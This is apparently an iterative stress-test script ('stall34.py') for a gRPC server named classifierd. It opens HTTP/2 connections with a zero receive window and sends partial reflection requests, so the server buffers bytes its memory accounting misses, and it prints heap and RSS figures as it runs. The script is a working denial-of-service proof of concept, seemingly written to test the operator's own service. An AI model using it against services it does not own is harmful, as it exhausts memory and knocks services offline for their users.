#!/usr/bin/env python3
"""stall34.py (thirty-fourth pass): stall33.py plus END=1: after the partial request, the client ends its side of
the stream (an empty DATA frame with END_STREAM): the scanner's Streams forgets the stream (Received 0), while grpc-go
still buffers the bytes for a handler stopped in SendMsg. END=0 is stall33.py. GAP=s waits
between connections.
stall33.py DIR WHO CONNS STREAMS SECS [R] (thirty-third pass): a reflection stream whose handler is stopped in
SendMsg, not in RecvMsg, when the rest of its partial request arrives. The client's SETTINGS_INITIAL_WINDOW_SIZE is 0
(it reads no answer); on each of STREAMS streams of CONNS connections (TLS when DIR/env has CERT=) it sends R (default
6) file_containing_symbol requests (~13 KB answers each: past grpc-go's 64 KiB write quota the handler's next Send
waits), waits 0.3 s, then a next request's prefix declaring 63 KiB and as much of it as the stream window takes
(SHORT bytes held back, default 1). The call is not receiving while its handler waits in Send, so those bytes are
charged to nothing. Holds SECS s (--write-stall-timeout closes such a connection after 30 s). Prints every 3 s
classifierd_request_bytes_in_flight, heap, RSS and the streams' ends."""
import os, sys, ssl, socket, time, select, urllib.request
import h2.connection, h2.config, h2.events, h2.settings, h2.exceptions
d, who, nc, ns, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
R = int(sys.argv[6]) if len(sys.argv) > 6 else 6
env = dict(l.strip().split('=', 1) for l in open(d + '/env') if '=' in l)
tok = {l.split()[0]: l.split()[2] for l in open(d + '/tokens')}
pid = env['PID']; host, port = env['GRPC'].split(':')
def stat():
    m = urllib.request.urlopen('http://%s/metrics' % env['METRICS']).read().decode().splitlines()
    g = lambda k: sum(float(l.split()[-1]) for l in m if l.startswith(k) and not l.startswith('#'))
    rss = int([l for l in open('/proc/%s/status' % pid) if l.startswith('VmRSS')][0].split()[1]) // 1024
    return 'in flight %.1f MB, heap %.0f MB, RSS %d MB, goroutines %d, load %s' % (g('classifierd_request_bytes_in_flight') / 1048576,
        g('go_memstats_heap_alloc_bytes ') / 1048576, rss, g('go_goroutines'), open('/proc/loadavg').read().split()[0])
sym = b'classifier.v1.ClassifierService'
req = b'\x22' + bytes([len(sym)]) + sym
env1 = b'\x00' + len(req).to_bytes(4, 'big') + req
L = 63 * 1024; short = int(os.environ.get('SHORT', '1'))
hdrs = [(':method', 'POST'), (':scheme', 'https' if 'CERT' in env else 'http'), (':path', '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'),
        (':authority', env['GRPC']), ('content-type', 'application/grpc'), ('te', 'trailers'), ('authorization', 'Bearer ' + tok[who])]
ends = {}; sent = 0
class C:
    def __init__(s):
        raw = socket.create_connection((host, int(port)))
        if 'CERT' in env:
            cx = ssl.create_default_context(); cx.check_hostname = False; cx.verify_mode = ssl.CERT_NONE
            cx.set_alpn_protocols(['h2']); raw = cx.wrap_socket(raw, server_hostname=host)
        s.sock = raw; s.dead = False
        s.h = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding='utf-8'))
        s.h.local_settings = h2.settings.Settings(client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        s.h.initiate_connection(); s.sock.sendall(s.h.data_to_send()); s.sock.setblocking(False)
    def flush(s):
        out = s.h.data_to_send()
        while out and not s.dead:
            try: k = s.sock.send(out); out = out[k:]
            except (BlockingIOError, ssl.SSLWantWriteError): time.sleep(0.001)
            except OSError: s.dead = True
    def rd(s):
        while True:
            try: data = s.sock.recv(1 << 20)
            except (BlockingIOError, ssl.SSLWantReadError): return
            except OSError: data = b''
            if not data: s.dead = True; ends['conn closed'] = ends.get('conn closed', 0) + 1; return
            try: evs = s.h.receive_data(data)
            except h2.exceptions.ProtocolError as e: s.dead = True; ends['proto'] = 1; return
            for e in evs:
                if isinstance(e, h2.events.StreamReset): k = 'RST %s' % e.error_code; ends[k] = ends.get(k, 0) + 1
                elif isinstance(e, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                    st = dict(e.headers).get('grpc-status')
                    if st is not None: k = 'grpc-status %s %s' % (st, dict(e.headers).get('grpc-message', '')[:60]); ends[k] = ends.get(k, 0) + 1
                elif isinstance(e, h2.events.ConnectionTerminated): k = 'GOAWAY %s' % e.error_code; ends[k] = ends.get(k, 0) + 1; s.dead = True
            s.flush()
    def stream(s):
        global sent
        sid = s.h.get_next_available_stream_id(); s.h.send_headers(sid, hdrs); s.h.send_data(sid, env1 * R); s.flush()
        return sid
    def partial(s, sid):
        global sent
        try:
            s.h.send_data(sid, b'\x00' + L.to_bytes(4, 'big')); left = L - short
            t1 = time.time() + 1
            while left > 0 and time.time() < t1 and not s.dead:
                w = min(s.h.local_flow_control_window(sid), 16384, left)
                if w <= 0: s.flush(); time.sleep(0.002); s.rd(); continue  # the connection's window back
                s.h.send_data(sid, os.urandom(w)); left -= w; sent += w
            if os.environ.get('END') == '1': s.h.end_stream(sid)
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError): pass
        s.flush()
print('before:', stat(), flush=True)
cs = []
for i in range(nc):
    c = C(); time.sleep(0.05); c.rd(); sids = [c.stream() for _ in range(ns)]
    t1 = time.time() + 0.3
    while time.time() < t1: c.rd(); time.sleep(0.02)
    for sid in sids: c.partial(sid)
    cs.append(c)
    time.sleep(float(os.environ.get('GAP', '0')))  # GAP=s between connections (the 20-a-second reflection rule)
t0 = time.time(); nxt = t0
while time.time() - t0 < secs:
    for c in cs:
        if not c.dead: c.rd()
    if time.time() >= nxt:
        nxt += 3; print('+%.0fs: sent %.1f MB; %s; ends %s' % (time.time() - t0, sent / 1048576, stat(), ends), flush=True)
    time.sleep(0.1)
for c in cs:
    try: c.sock.close()
    except Exception: pass
time.sleep(2); print('end: sent %.1f MB; %s; ends %s' % (sent / 1048576, stat(), ends), flush=True)
